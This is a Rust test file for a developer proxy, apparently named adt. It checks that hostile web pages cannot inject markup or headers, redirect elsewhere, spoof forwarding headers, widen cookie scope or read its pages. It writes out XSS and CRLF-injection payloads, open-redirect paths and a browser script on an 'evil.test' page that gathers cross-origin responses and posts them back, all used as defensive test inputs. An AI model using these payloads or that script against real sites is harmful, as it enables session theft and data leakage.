//! A page of somebody else in the developer's browser. It can make the browser send what it likes to adt's own pages and to
//! environments, and it can lead a name of its own there. It learns nothing, changes nothing, and shows nothing as its own.

use std::io::{BufRead, BufReader, Read, Write};
use std::net::{SocketAddr, TcpListener};
use std::path::Path;
use std::process::{Command, Stdio};
use std::sync::{Arc, Mutex};

use super::proxy::{Answer, HOST, World, routes, until, world, world_with, www};
use super::servers::installed;
use adt::proxy::Limits;

/// Answers every request with the same, and keeps what it was asked.
struct Server {
    address: SocketAddr,
    asked: Arc<Mutex<Vec<String>>>,
}

impl Server {
    fn new(head: &str, body: &str) -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").expect("loopback has ports");
        let (address, asked) = (listener.local_addr().expect("it is bound"), Arc::new(Mutex::new(Vec::new())));
        let answer = format!("HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n{head}\r\n{body}", body.len());
        let kept = asked.clone();
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let (answer, kept) = (answer.clone(), kept.clone());
                std::thread::spawn(move || {
                    let mut reader = BufReader::new(&stream);
                    let mut said = String::new();
                    while reader.read_line(&mut said).is_ok_and(|length| length > 2) {}
                    let length =
                        said.lines().find_map(|line| line.to_ascii_lowercase().strip_prefix("content-length: ")?.parse().ok());
                    let mut body = vec![0; length.unwrap_or_default()];
                    drop(reader.read_exact(&mut body));
                    kept.lock().unwrap().push(said + &String::from_utf8_lossy(&body));
                    drop((&stream).write_all(answer.as_bytes()));
                });
            }
        });
        Self { address, asked }
    }

    /// What it was asked for at a path.
    fn asked(&self, path: &str) -> Option<String> {
        let line = format!(" {path} ");
        self.asked.lock().unwrap().iter().find(|said| said.lines().next().is_some_and(|first| first.contains(&line))).cloned()
    }
}

/// Two environments that are up, the first of which belongs to the page.
fn two(first: SocketAddr, second: SocketAddr) -> World {
    let mut routes = routes(&[first]);
    let other = &mut routes.platforms[1].environments[1];
    other.up = true;
    for site in &mut other.sites {
        site.backends[0].address = second;
    }
    world_with(routes, Limits::default())
}

const OWN_PAGES: [&str; 4] = ["example.test", "shop.example.test", "1161.shop.example.test", "nowhere.1161.shop.example.test"];

fn ask(world: &World, method: &str, host: &str, path: &str, lines: &str) -> Answer {
    world.say(&format!("{method} {path} HTTP/1.1\r\nHost: {host}\r\nContent-Length: 0\r\nConnection: close\r\n{lines}\r\n"))
}

#[test]
fn a_name_that_was_led_here_shows_nothing() {
    let world = world(&[]);
    for host in [
        "evil.test",
        "127.77.77.77",
        "[::1]",
        "localhost",
        "example.test.evil.com",
        "evilexample.test",
        "example.test.",
        "metrics",
    ] {
        for path in ["/", "/metrics", "/../", "//example.test/", "/?example.test"] {
            for accept in ["text/html", "application/json", "text/plain"] {
                let said = ask(&world, "GET", host, path, &format!("Accept: {accept}\r\nX-Forwarded-Host: example.test\r\n"));
                let own = host == "example.test.";
                assert!(own || matches!(said.status, 400 | 404), "{host}{path}: {said:?}");
                let leaks = ["shop", "anna", "10.1.2.3", "1161", "adt_"].iter().find(|word| said.body.contains(**word));
                assert!(own || leaks.is_none(), "{host}{path} shows {leaks:?}: {said:?}");
            }
        }
    }
}

#[test]
fn other_pages_change_nothing_read_nothing_and_frame_nothing() {
    let world = world(&[]);
    for host in OWN_PAGES {
        for method in ["POST", "PUT", "PATCH", "DELETE", "OPTIONS", "PROPFIND"] {
            let lines = "Origin: https://evil.test\r\nAccess-Control-Request-Method: PUT\r\nAccess-Control-Request-Private-Network: true\r\n";
            for path in ["/", "/metrics", "/api/env:destroy"] {
                let said = ask(&world, method, host, path, lines);
                assert!(matches!(said.status, 404 | 405), "{method} {host}{path}: {said:?}");
                assert!(!said.head.to_ascii_lowercase().contains("access-control"), "{method} {host}{path}: {said:?}");
            }
        }
        let upgrade = "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n\
                       Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nOrigin: https://evil.test\r\n";
        let said = world.say(&format!("GET / HTTP/1.1\r\nHost: {host}\r\n{upgrade}\r\n"));
        assert!(said.status != 101, "{host}: {said:?}");
        for path in ["/", "/metrics", "/nowhere"] {
            let said = ask(&world, "GET", host, path, "Accept: text/html\r\nOrigin: https://evil.test\r\nCookie: a=b\r\n");
            let header = |name: &str| said.header(name).unwrap_or_default();
            let policy = header("content-security-policy");
            for part in ["default-src 'none'", "frame-ancestors 'none'", "form-action 'none'", "base-uri 'none'"] {
                assert!(policy.contains(part), "{host}{path}: {policy}");
            }
            assert_eq!(header("x-frame-options"), "DENY");
            assert_eq!(header("x-content-type-options"), "nosniff");
            assert_eq!(header("cross-origin-resource-policy"), "same-origin");
            assert_eq!(header("cache-control"), "no-store", "nothing of it is kept for others");
            assert!(said.header("set-cookie").is_none() && !said.head.contains("a=b"), "{said:?}");
        }
    }
}

#[test]
fn nothing_that_a_request_says_becomes_markup_or_a_line_of_the_head() {
    let world = world(&[]);
    let script = "<script>alert(1)</script>";
    let quoted = "\"><img/src=x/onerror=alert(1)>";
    for host in OWN_PAGES {
        for path in [format!("/{script}"), format!("/{quoted}"), format!("/?{script}"), "/%0d%0aSet-Cookie:%20a=b".to_owned()] {
            for line in [
                "X-A: b".to_owned(),
                format!("X-Forwarded-Host: {script}"),
                format!("Referer: {script}"),
                format!("User-Agent: {quoted}"),
            ] {
                let said = ask(&world, "GET", host, &path, &format!("Accept: text/html\r\n{line}\r\n"));
                let markup =
                    said.body.contains("<script") || said.body.contains("<img") || said.body.contains("onerror=alert(1)>");
                assert!(!markup, "{host}{path} {line}: {}", said.body);
                assert!(said.header("set-cookie").is_none(), "{host}{path}: {}", said.head);
            }
        }
    }
    for host in [format!("{script}.example.test"), "a\tb.example.test".to_owned(), "x'onload=y.example.test".to_owned()] {
        let said = ask(&world, "GET", &host, "/", "Accept: text/html\r\n");
        assert!(said.status == 400 && !said.body.contains("script>"), "{host}: {said:?}");
    }
}

#[test]
fn redirects_lead_to_adts_own_names_only() {
    let mut routes = routes(&[]);
    www(&mut routes).https_only = true;
    let world = world_with(routes, Limits::default());
    for path in [
        "/",
        "//evil.test/",
        "/\\evil.test",
        "/@evil.test",
        "/%0d%0aLocation:%20https://evil.test",
        "/..//evil.test",
        "/?to=https://evil.test",
    ] {
        for line in [
            "X-A: b",
            "X-Forwarded-Host: evil.test",
            "X-Forwarded-Proto: javascript",
            "Forwarded: host=evil.test",
            "X-Original-URL: //evil.test",
        ] {
            let said = ask(&world, "GET", HOST, path, &format!("{line}\r\n"));
            let to = said.header("location").unwrap_or_default();
            let rest = to.strip_prefix(&format!("https://{HOST}")).unwrap_or_else(|| panic!("{path} {line}: {said:?}"));
            assert!(rest.starts_with(['/', ':']) && said.status == 308, "{path} {line}: {to}");
        }
    }
    let said = world.say("GET http://evil.test/ HTTP/1.1\r\nHost: www.1161.shop.example.test\r\nConnection: close\r\n\r\n");
    assert!(said.header("location").is_none() && said.status == 404, "{said:?}");
}

#[test]
fn backends_hear_who_asked_and_not_what_he_says_of_himself() {
    let backend = Server::new("Content-Type: text/plain\r\n", "hello");
    let world = world(&[backend.address]);
    let claims = "X-Forwarded-For: 10.0.0.1\r\nX-Real-IP: 10.0.0.1\r\nForwarded: for=10.0.0.1;host=evil.test\r\n\
                  X-Forwarded-Host: evil.test\r\nX-Forwarded-Proto: https\r\nX-Forwarded-Port: 1\r\n\
                  Connection: close, X-Forwarded-For, Cookie\r\nCookie: kept=1\r\n";
    let said = world.say(&format!("GET /claims HTTP/1.1\r\nHost: {HOST}\r\n{claims}\r\n"));
    assert_eq!(said.status, 200);
    let heard = backend.asked("/claims").expect("it was asked").to_ascii_lowercase();
    assert!(!heard.contains("10.0.0.1") && !heard.contains("evil.test"), "{heard}");
    assert!(heard.contains("x-forwarded-for: 127.0.0.1\r\n") && heard.contains("x-forwarded-proto: http\r\n"), "{heard}");
}

#[test]
fn cookies_of_one_environment_reach_no_other() {
    let wide = "Set-Cookie: a=1; Domain=example.test; Path=/\r\nSet-Cookie: b=2; domain=.shop.example.test\r\n\
                Set-Cookie: c=3; Domain=1161.shop.example.test\r\nSet-Cookie: d=4; HttpOnly\r\n";
    let backend = Server::new(wide, "hello");
    let world = two(backend.address, backend.address);
    let said = ask(&world, "GET", HOST, "/", "");
    let cookies: Vec<_> = said.head.lines().filter_map(|line| line.strip_prefix("set-cookie: ")).collect();
    let own = "Domain=1161.shop.example.test";
    assert_eq!(cookies, [&*format!("a=1; {own}; Path=/"), &format!("b=2; {own}"), &format!("c=3; {own}"), "d=4; HttpOnly"]);
    let other = ask(&world, "GET", "www.1162.shop.example.test", "/", "");
    assert!(other.head.contains("Domain=1162.shop.example.test") && !other.head.contains("Domain=example.test"), "{other:?}");
    // The one that adt sets itself names no domain and is for no script.
    let mut sticky = routes(&[backend.address]);
    www(&mut sticky).sticky = true;
    let said = ask(&world_with(sticky, Limits::default()), "GET", HOST, "/", "");
    let own = said.head.lines().find(|line| line.contains("adt-backend=")).expect("it is sticky");
    assert!(own.contains("HttpOnly") && own.contains("SameSite=Lax") && !own.contains("Domain"), "{own}");
}

/// Opens a page in the real browser, which finds each of these names where it is told, and waits for what comes of it.
fn browse(home: &Path, names: &[(&str, SocketAddr)], url: &str, done: impl FnMut() -> bool) {
    let rules: Vec<_> = names.iter().map(|(name, to)| format!("MAP {name} {to}")).collect();
    let mut browser = Command::new("unshare");
    browser.args(["--pid", "--fork", "--kill-child", "--mount-proc", "chromium", "--headless", "--no-sandbox", "--disable-gpu"]);
    browser.args(["--disable-dev-shm-usage", "--no-first-run", "--disable-background-networking", "--disable-component-update"]);
    browser.args(["--disable-sync", "--no-proxy-server", "--remote-debugging-port=0"]);
    browser.arg(format!("--host-resolver-rules={}", rules.join(","))).arg(format!("--user-data-dir={}", home.display()));
    let mut browser = browser.arg(url).env("HOME", home).stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null()).spawn();
    let browser = browser.as_mut().expect("it is installed");
    until("the page has done what it could", done);
    drop(browser.kill());
    drop(browser.wait());
}

#[test]
fn in_a_real_browser_a_cookie_stays_in_its_environment() {
    if !installed(&["chromium"]) {
        return;
    }
    let page = "<img src=http://www.1162.shop.example.test/theirs><img src=http://api.1161.shop.example.test/ours>";
    let cookies = "Content-Type: text/html\r\nSet-Cookie: fixed=session; Domain=example.test; Path=/\r\n";
    let (evil, other) = (Server::new(cookies, page), Server::new("", ""));
    let world = two(evil.address, other.address);
    let home = tempfile::tempdir().expect("a folder");
    browse(home.path(), &[("*.example.test", world.http())], &format!("http://{HOST}/page"), || {
        other.asked("/theirs").is_some() && evil.asked("/ours").is_some()
    });
    let ours = evil.asked("/ours").expect("it was just there").to_ascii_lowercase();
    assert!(ours.contains("cookie: fixed=session"), "it works, for its own environment: {ours}");
    let theirs = other.asked("/theirs").expect("it was just there").to_ascii_lowercase();
    assert!(!theirs.contains("fixed=session"), "{theirs}");
}

#[test]
fn in_a_real_browser_another_page_reads_nothing_of_adts() {
    if !installed(&["chromium"]) {
        return;
    }
    let page = "<script>
        const told = {};
        const read = (name, url, how) => fetch(url, how).then(answer => answer.text()).then(text => told[name] = text, () => told[name] = 'refused');
        const load = (name, kind, url) => new Promise(done => {
            const it = document.createElement(kind);
            it.onload = () => { told[name] = 'loaded'; done(); };
            it.onerror = () => { told[name] = 'refused'; done(); };
            it[kind == 'link' ? 'href' : 'src'] = url;
            if (kind == 'link') it.rel = 'stylesheet';
            document.head.append(it);
        });
        const socket = new Promise(done => {
            const it = new WebSocket('ws://example.test/');
            it.onopen = () => { told.socket = 'open'; done(); };
            it.onerror = () => { told.socket = 'refused'; done(); };
        });
        Promise.all([
            read('home', 'http://example.test/', {}),
            read('environment', 'http://1161.shop.example.test/', {credentials: 'include'}),
            read('metrics', 'http://example.test/metrics', {}),
            read('change', 'http://1161.shop.example.test/', {method: 'DELETE'}),
            read('blind', 'http://example.test/metrics', {mode: 'no-cors'}),
            read('rebound', 'http://rebound.evil.test/metrics', {mode: 'no-cors'}),
            load('script', 'script', 'http://example.test/metrics'),
            load('style', 'link', 'http://example.test/'),
            load('image', 'img', 'http://example.test/'),
            socket,
        ]).then(() => fetch('/told', {method: 'POST', body: JSON.stringify(told)}));
        </script>";
    let evil = Server::new("Content-Type: text/html\r\n", page);
    let world = world(&[]);
    let home = tempfile::tempdir().expect("a folder");
    let names = [
        ("evil.test", evil.address),
        ("rebound.evil.test", world.http()),
        ("*.example.test", world.http()),
        ("example.test", world.http()),
    ];
    browse(home.path(), &names, "http://evil.test/page", || evil.asked("/told").is_some());
    let told = evil.asked("/told").expect("it was just there");
    let told = &told[told.find('{').expect("it is JSON")..];
    let told: serde_json::Value = serde_json::from_str(told).expect("it is JSON");
    for (what, said) in told.as_object().expect("an object") {
        let said = said.as_str().expect("a text");
        assert!(said == "refused" || said.is_empty(), "{what}: {said}");
    }
    assert_eq!(told.as_object().map(serde_json::Map::len), Some(10), "{told}");
}
